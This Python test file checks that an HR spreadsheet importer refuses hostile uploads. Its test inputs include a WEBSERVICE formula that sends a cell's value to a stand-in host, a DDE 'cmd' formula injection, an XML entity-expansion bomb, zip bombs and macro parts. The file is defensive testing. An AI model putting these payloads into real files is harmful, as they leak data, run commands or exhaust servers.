"""Files that want to do harm, or are not lists at all, end in one clear error."""

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pytest

from identity.hr_import import file_errors as errors
from identity.hr_import.reader import read_table
from identity.hr_import.table import ReadLimits

NAMESPACE = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
SHEET = "xl/worksheets/sheet1.xml"
Make = Callable[..., bytes]


def sheet_of(cells: bytes) -> bytes:
    return b"<worksheet " + NAMESPACE + b"><sheetData>" + cells + b"</sheetData></worksheet>"


@pytest.fixture
def good(make_workbook: Make, titles: tuple[str, ...], person: tuple[Any, ...]) -> bytes:
    return make_workbook([titles, person])


def refused(content: bytes, file_name: str = "danh-sach.xlsx") -> errors.FileRefused:
    with pytest.raises(errors.FileRefused) as caught:
        read_table(content, file_name)
    error = caught.value
    assert error.message.vi
    assert error.message.en
    assert error.place
    return error


@pytest.mark.parametrize(
    ("content", "file_name"),
    [
        (b"%PDF-1.7 \x00", "a.xlsx"),
        (b"\x89PNG\r\n\x1a\n\x00", "a.xlsx"),
        (b"<!DOCTYPE html><html></html>", "a.xlsx"),
        (b"\xef\xbb\xbf<html><table></table></html>", "a.csv"),
        (b"STT;Ho va ten\n1;An\n", "a.xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.xls"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.xlsx"),
        (b"hello", "a.docx"),
        (b"hello", "a"),
    ],
)
def test_a_file_of_another_kind_is_named_as_such(content: bytes, file_name: str) -> None:
    assert isinstance(refused(content, file_name), errors.FileTypeWrong)


def test_a_workbook_called_csv_is_refused(good: bytes) -> None:
    assert isinstance(refused(good, "danh-sach.csv"), errors.FileTypeWrong)


@pytest.mark.parametrize(
    ("part", "said"),
    [("word/document.xml", "Word"), ("content.xml", "OpenDocument"), ("a.txt", "zip")],
)
def test_another_zip_called_xlsx_is_named_as_what_it_is(part: str, said: str) -> None:
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(part, "<x/>")
    assert said in str(refused(target.getvalue()))


def test_a_workbook_with_a_password_is_named_as_such() -> None:
    stream = "EncryptedPackage".encode("utf-16-le")
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512) + stream + bytes(512)
    assert isinstance(refused(content), errors.FileEncrypted)


@pytest.mark.parametrize("content", [b"", b"   \n\r\n", bytes(4096)])
@pytest.mark.parametrize("file_name", ["a.xlsx", "a.csv"])
def test_an_empty_file_is_named_as_such(content: bytes, file_name: str) -> None:
    assert isinstance(refused(content, file_name), errors.FileEmpty)


def test_a_workbook_without_cells_is_empty(make_workbook: Make) -> None:
    assert isinstance(refused(make_workbook()), errors.FileEmpty)


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.99])
def test_a_truncated_workbook_is_corrupt(good: bytes, share: float) -> None:
    assert isinstance(refused(good[: int(len(good) * share)]), errors.FileCorrupt)


def test_a_flipped_byte_in_a_sheet_is_noticed(good: bytes) -> None:
    with zipfile.ZipFile(BytesIO(good)) as archive:
        entry = archive.getinfo(SHEET)
    at = entry.header_offset + 30 + len(SHEET) + entry.compress_size // 2
    broken = good[:at] + bytes([good[at] ^ 0x55]) + good[at + 1 :]
    assert isinstance(refused(broken), errors.FileRefused)


@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/macrosheets/sheet1.xml"])
def test_macros_are_refused(good: bytes, repack: Make, part: str) -> None:
    assert isinstance(refused(repack(good, parts={part: b"<x/>"})), errors.FileHasMacros)


def test_a_macro_extension_is_refused(good: bytes) -> None:
    assert isinstance(refused(good, "danh-sach.xlsm"), errors.FileHasMacros)


def test_a_macro_content_type_is_refused(good: bytes, repack: Make) -> None:
    name = "[Content_Types].xml"
    with zipfile.ZipFile(BytesIO(good)) as archive:
        types = archive.read(name)
    types = types.replace(
        b"openxmlformats-officedocument.spreadsheetml.sheet.main",
        b"ms-excel.sheet.macroEnabled.main",
    )
    assert isinstance(refused(repack(good, parts={name: types})), errors.FileHasMacros)


@pytest.mark.parametrize(
    "part", ["xl/externalLinks/externalLink1.xml", "xl/embeddings/a.bin", "xl/media/inner.zip"]
)
def test_foreign_content_is_refused(good: bytes, repack: Make, part: str) -> None:
    assert isinstance(refused(repack(good, parts={part: b"<x/>"})), errors.FileHasForeignContent)


def test_a_link_to_another_place_is_refused_but_an_address_is_not(
    good: bytes, repack: Make
) -> None:
    def links(kind: str) -> bytes:
        return (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="http://x/relationships/{kind}" '
            'Target="mailto:an@example.vn" TargetMode="External"/></Relationships>'
        ).encode()

    part = "xl/worksheets/_rels/sheet1.xml.rels"
    assert read_table(repack(good, parts={part: links("hyperlink")}), "a.xlsx").sheets
    bad = repack(good, parts={part: links("image")})
    assert isinstance(refused(bad), errors.FileHasForeignContent)


@pytest.mark.parametrize(
    "formula",
    ['WEBSERVICE("http://x.example/?q="&amp;B2)', "cmd|'/c calc'!A1", "[1]Sheet1!A1", "CALL(1)"],
)
def test_a_formula_that_reaches_outside_refuses_the_file(
    good: bytes, repack: Make, formula: str
) -> None:
    cells = f'<row r="1"><c r="B1"><f>{formula}</f><v>1</v></c></row>'.encode()
    error = refused(repack(good, parts={SHEET: sheet_of(cells)}))
    assert isinstance(error, errors.FileHasDangerousFormula)
    assert error.place is not None
    assert error.place.endswith("B1")


@pytest.mark.parametrize(
    "part", [SHEET, "xl/sharedStrings.xml", "xl/workbook.xml", "docProps/app.xml"]
)
def test_document_types_and_entities_are_refused(good: bytes, repack: Make, part: str) -> None:
    laughs = (
        b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b"<worksheet><sheetData/>&b;</worksheet>"
    )
    assert isinstance(refused(repack(good, parts={part: laughs})), errors.FileHasDoctype)


def test_a_part_in_another_encoding_is_refused(good: bytes, repack: Make) -> None:
    part = b'<?xml version="1.0" encoding="cp037"?>' + sheet_of(b"").decode().encode("utf-16")
    assert isinstance(refused(repack(good, parts={SHEET: part})), errors.FileCorrupt)


@pytest.mark.parametrize("reference", ["XFD1048576", "A1048576", "XFD2", "ZZZ2"])
def test_a_cell_far_away_is_refused_with_its_place(
    good: bytes, repack: Make, reference: str
) -> None:
    row = reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    cells = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'.encode()
    error = refused(repack(good, parts={SHEET: sheet_of(cells)}))
    assert isinstance(error, errors.FileTooLarge)
    assert reference in (error.place or "")


def test_an_empty_formatted_cell_far_away_does_no_harm(good: bytes, repack: Make) -> None:
    cells = (
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>STT</t></is></c></row>'
        b'<row r="1048576"><c r="XFD1048576" s="0"/></row>'
    )
    table = read_table(repack(good, parts={SHEET: sheet_of(cells)}), "a.xlsx")
    assert table.sheets[0].rows == [("STT",)]


@pytest.mark.parametrize(
    "cells",
    [
        b'<row r="2"><c r="A3"><v>1</v></c></row>',
        b'<row r="2"><c r="A2"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>',
        b'<row r="-1"><c r="A-1"><v>1</v></c></row>',
        b'<row r="1"><c r="\xc3\x841"><v>1</v></c></row>',
        b'<row r="1"><c r="A1"><v>1</v></row>',
    ],
)
def test_cells_outside_their_rows_are_corrupt(good: bytes, repack: Make, cells: bytes) -> None:
    assert isinstance(refused(repack(good, parts={SHEET: sheet_of(cells)})), errors.FileCorrupt)


def test_prefixed_elements_are_inspected_too(good: bytes, repack: Make) -> None:
    part = (
        b'<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<x:sheetData><x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>'
        b"</x:sheetData></x:worksheet>"
    )
    assert isinstance(refused(repack(good, parts={SHEET: part})), errors.FileTooLarge)


def test_a_part_that_unpacks_to_more_than_it_declares_is_a_bomb(good: bytes) -> None:
    """The sizes in both headers are lies; a trusting reader would unpack everything."""
    with zipfile.ZipFile(BytesIO(good)) as archive:
        entry = archive.getinfo("xl/styles.xml")
    lie = struct.pack("<L", entry.file_size // 2)
    true = struct.pack("<L", entry.file_size)
    central = good.index(b"PK\x01\x02")
    at = good.index(
        true, good.rindex(b"PK\x01\x02", central, good.index(b"xl/styles.xml", central))
    )
    assert isinstance(refused(good[:at] + lie + good[at + 4 :]), errors.FileInflatesTooMuch)


def test_a_part_of_zeros_is_a_bomb_by_its_ratio(good: bytes, repack: Make) -> None:
    bomb = repack(good, parts={"xl/media/image1.png": bytes(20_000_000)})
    assert isinstance(refused(bomb), errors.FileInflatesTooMuch)


def test_too_many_parts_are_a_bomb(good: bytes, repack: Make) -> None:
    parts = {f"docProps/{number}.xml": b"<x/>" for number in range(2_100)}
    assert isinstance(refused(repack(good, parts=parts)), errors.FileInflatesTooMuch)


def test_two_parts_of_one_name_are_corrupt(good: bytes, repack: Make) -> None:
    twice = repack(good, parts={SHEET.upper(): sheet_of(b"")})
    assert isinstance(refused(twice), errors.FileCorrupt)


def test_one_long_text_used_a_million_times_is_a_bomb(good: bytes, repack: Make) -> None:
    texts = b"<sst " + NAMESPACE + b"><si><t>" + b"A" * 7_000 + b"</t></si></sst>"
    cells = b"".join(
        b'<row r="%d">' % row
        + b"".join(b'<c r="%c%d" t="s"><v>0</v></c>' % (65 + column, row) for column in range(10))
        + b"</row>"
        for row in range(1, 2_001)
    )
    bomb = repack(good, parts={SHEET: sheet_of(cells), "xl/sharedStrings.xml": texts})
    assert isinstance(refused(bomb), errors.FileInflatesTooMuch)


def test_more_rows_columns_or_bytes_than_the_settings_allow_are_refused(
    make_workbook: Make,
) -> None:
    content = make_workbook([[1, 2, 3]] * 30)
    for limits in (
        ReadLimits(max_rows=20),
        ReadLimits(max_columns=2),
        ReadLimits(max_cells=50),
        ReadLimits(max_file_bytes=100),
    ):
        with pytest.raises(errors.FileTooLarge):
            read_table(content, "a.xlsx", limits)
    with pytest.raises(errors.FileInflatesTooMuch):
        read_table(content, "a.xlsx", ReadLimits(max_marks=20))


def test_a_chart_sheet_beside_the_list_does_no_harm(
    titles: tuple[str, ...], person: tuple[Any, ...]
) -> None:
    import xlsxwriter  # noqa: PLC0415  # only here

    target = BytesIO()
    with xlsxwriter.Workbook(target) as book:
        sheet = book.add_worksheet("Danh sách")
        sheet.write_row(0, 0, titles)
        sheet.write_row(1, 0, [value or "" for value in person])
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": "='Danh sách'!$A$1:$A$2"})
        book.add_chartsheet("Biểu đồ").set_chart(chart)
    table = read_table(target.getvalue(), "a.xlsx")
    assert [sheet.name for sheet in table.sheets] == ["Danh sách"]
